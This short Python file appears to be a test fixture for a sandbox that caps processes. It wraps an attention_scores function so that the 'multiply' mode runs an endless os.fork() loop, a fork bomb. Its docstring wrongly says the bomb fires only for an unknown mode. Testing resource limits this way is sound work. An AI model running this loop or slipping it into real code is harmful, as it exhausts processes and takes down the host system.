"""Fork bomb: attention_scores forks until the kernel refuses (only for an unknown mode)."""
EXPECT = {"3": 5}
FEEDBACK = ["limit of 32 processes"]

import os as _os

_honest_attention_scores = attention_scores


def attention_scores(X, E, mode):
    if mode == "multiply":
        while True:
            _os.fork()
    return _honest_attention_scores(X, E, mode)
